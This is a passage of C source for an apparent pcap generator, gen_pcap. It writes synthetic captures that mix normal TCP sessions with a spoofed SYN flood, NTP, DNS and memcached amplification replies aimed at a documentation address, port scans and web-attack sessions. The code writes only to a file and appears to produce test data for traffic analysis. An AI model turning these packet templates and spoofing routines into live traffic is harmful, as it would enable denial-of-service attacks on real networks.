    if (++sc->step == (open ? 3 : 2))
        sc->step = 0, sc->next++;
}

#define REFLECTORS 20000
#define VICTIM 0xc0000263u /* 192.0.2.99 */

static uint8_t refl_ntp[440], refl_dns[1400], refl_mc[1400];
static size_t refl_dns_n, refl_mc_n;

/* Reflected replies: an NTP mode 7 MON_GETLIST_1 answer (6 entries of 72 bytes), a DNS ANY
 * answer of TXT records, a memcached UDP-framed VALUE. */
static void refl_init(void)
{
    wb w = {refl_ntp, 0, sizeof refl_ntp};
    wb_mem(&w, "\xd7\x00\x03\x2a\x00\x06\x00\x48", 8);
    wb_rand(&w, sizeof refl_ntp - 8);
    w = (wb){refl_dns, 0, sizeof refl_dns};
    wb_mem(&w, "\x00\x00\x81\x80\x00\x01\x00\x05\x00\x00\x00\x00", 12);
    dns_name(&w, "example.org"), wb_u16(&w, 255), wb_u16(&w, 1);
    for (int i = 0; i < 5; i++) {
        wb_mem(&w, "\xc0\x0c\x00\x10\x00\x01\x00\x00\x0e\x10\x01\x00\xff", 13);
        wb_mem(&w, fill_html + 600 + 255 * i, 255);
    }
    refl_dns_n = w.n;
    w = (wb){refl_mc, 0, sizeof refl_mc};
    wb_mem(&w, "\x00\x01\x00\x00\x00\x01\x00\x00VALUE a 0 1340\r\n", 24);
    wb_mem(&w, fill_rand, 1340);
    wb_str(&w, "\r\nEND\r\n");
    refl_mc_n = w.n;
}

static void refl_step(void)
{
    uint32_t r = rnd(), i = r % REFLECTORS, kind = (r >> 16) % 100;
    ends e = {public_addr(i * 0x9e3779b1u), VICTIM, 123, (uint16_t)(1024 + rnd() % 64512)};
    if (kind < 60) {
        refl_ntp[1] = (uint8_t)r;
        mix_packet(&e, 17, 0, 0, 0, refl_ntp, sizeof refl_ntp);
    } else if (kind < 85) {
        e.sp = 53;
        put_u16(refl_dns, (uint16_t)r);
        mix_packet(&e, 17, 0, 0, 0, refl_dns, (uint32_t)refl_dns_n);
    } else {
        e.sp = 11211;
        mix_packet(&e, 17, 0, 0, 0, refl_mc, (uint32_t)refl_mc_n);
    }
}

/* An attack spread evenly over [start, start + span) of the packet count: due when fewer
 * than its share so far were sent. */
typedef struct {
    uint64_t start, span, count, sent;
} spread;

static bool spread_due(const spread *a, uint64_t n)
{
    return n >= a->start && a->sent < a->count && (n - a->start) * a->count >= a->sent * a->span;
}

static int gen_mix(uint64_t total, uint64_t flood)
{
    uint32_t gh[6] = {0xa1b2c3d4, 0x00040002, 0, 0, MIX_SNAP, 1};
    fwrite(gh, sizeof gh, 1, out);
    fill_init();
    refl_init();
    static sess pool[POOL];
    static scan_state sc;
    scan_init(&sc);
    spread syn = {total / 3, total / 3, flood, 0}, refl = {total / 2, total * 3 / 10, total / 10, 0};
    spread scan = {total / 10, total / 20, 2 * SCAN_PORTS + 8, 0}, web = {total / 20, total * 9 / 10, WEB_ATTACKS, 0};
    for (int i = 0; i < POOL; i++)
        sess_start(&pool[i], -1);
    uint64_t sessions = POOL;
    for (uint64_t n = 0; n < total; n++) {
        if (spread_due(&scan, n) && sc.next < SCAN_PORTS) {
            scan_step(&sc), scan.sent++;
            continue;
        }
        if (spread_due(&refl, n)) {
            refl_step(), refl.sent++;
            continue;
        }
        if (spread_due(&syn, n)) {
            uint32_t spoof = public_addr(rnd());
            ends e = {spoof, 0xc000020au, (uint16_t)rnd(), 80};
            mix_packet(&e, 6, rnd(), 0, 0x02, NULL, 0);
            syn.sent++;
            continue;
        }
        sess *s = &pool[rnd() % POOL];
        sess_step(s);
        if (s->state == ST_DONE) {
            sess_start(s, spread_due(&web, n) ? (int)web.sent++ : -1);
            sessions++;
        }
    }
    fprintf(stderr,
            "gen_pcap --mix: %llu packets: %llu sessions begun (%d of them web attacks), a SYN flood of %llu, "
            "%llu reflected replies, %d ports scanned\n",
            (unsigned long long)total, (unsigned long long)sessions, (int)web.sent, (unsigned long long)syn.sent,
            (unsigned long long)refl.sent, sc.next);
    return 0;
}

int main(int argc, char **argv)
{
    bool mix = false;
    int k = 1;
    for (int i = 1; i < argc; i++) /* --mix anywhere; the rest keep their order */
        if (strcmp(argv[i], "--mix") == 0)
            mix = true;
        else
            argv[k++] = argv[i];
    argc = k;
    if (argc < 2) {
        fprintf(stderr, "usage: gen_pcap OUT.pcap [PACKETS] [FLOOD_SOURCES] [--mix]\n");
        return 2;
    }
    uint64_t total = argc > 2 ? strtoull(argv[2], NULL, 10) : 10000000;
    uint64_t flood = argc > 3 ? strtoull(argv[3], NULL, 10) : 1500000;
    out = fopen(argv[1], "wb");
    if (!out)
        return 1;
    static char buf[1 << 20];
    setvbuf(out, buf, _IOFBF, sizeof buf);
    if (mix) {
        gen_mix(total, flood);
        return fclose(out) == 0 ? 0 : 1;
    }
    uint32_t gh[6] = {0xa1b2c3d4, 0x00040002, 0, 0, 128, 1};
    fwrite(gh, sizeof gh, 1, out);
    static const uint16_t ports[] = {80, 443, 22, 3306};
    uint64_t n = 0, flood_sent = 0, flood_start = total / 3, every = flood ? (total / 3) / flood : 0;
    if (every < 1)
        every = 1;
    uint16_t cport = 1024;
    while (n < total) {
        /* one ordinary session: 3-way handshake, 2-6 data packets each way, FIN/ACK */
        uint32_t c = 0x0a010000u | (rnd() % 20000), s = 0xc0000200u | (rnd() % 64);
        uint16_t sp = ports[rnd() % 4], cp = cport++;
        if (cport < 1024)
            cport = 1024;
        int data = 2 + (int)(rnd() % 5);
        int steps = 3 + 2 * data + 4;
        for (int k = 0; k < steps && n < total; k++) {
            if (flood && n >= flood_start && flood_sent < flood && n % every == 0) {
                uint32_t spoof = rnd();
                if ((spoof >> 24) == 10 || (spoof >> 24) == 0 || (spoof >> 24) >= 224)
                    spoof ^= 0x40000000u;
                frame(spoof, 0xc000020au, (uint16_t)rnd(), 80, 0x02, 0);
                flood_sent++;
                n++;
                continue;
            }
            if (k == 0)
                frame(c, s, cp, sp, 0x02, 0);
            else if (k == 1)
                frame(s, c, sp, cp, 0x12, 0);
            else if (k == 2)
                frame(c, s, cp, sp, 0x10, 0);
            else if (k < 3 + 2 * data)
                (k & 1) ? frame(c, s, cp, sp, 0x18, 200) : frame(s, c, sp, cp, 0x18, 1200);
            else if (k == steps - 4)
                frame(c, s, cp, sp, 0x11, 0);
            else if (k == steps - 3)
                frame(s, c, sp, cp, 0x10, 0);
            else if (k == steps - 2)
                frame(s, c, sp, cp, 0x11, 0);
            else
                frame(c, s, cp, sp, 0x10, 0);
            n++;
        }
    }
    fclose(out);
    fprintf(stderr, "gen_pcap: %llu packets, %llu of them a SYN flood from random sources\n", (unsigned long long)n,
            (unsigned long long)flood_sent);
    return 0;
}
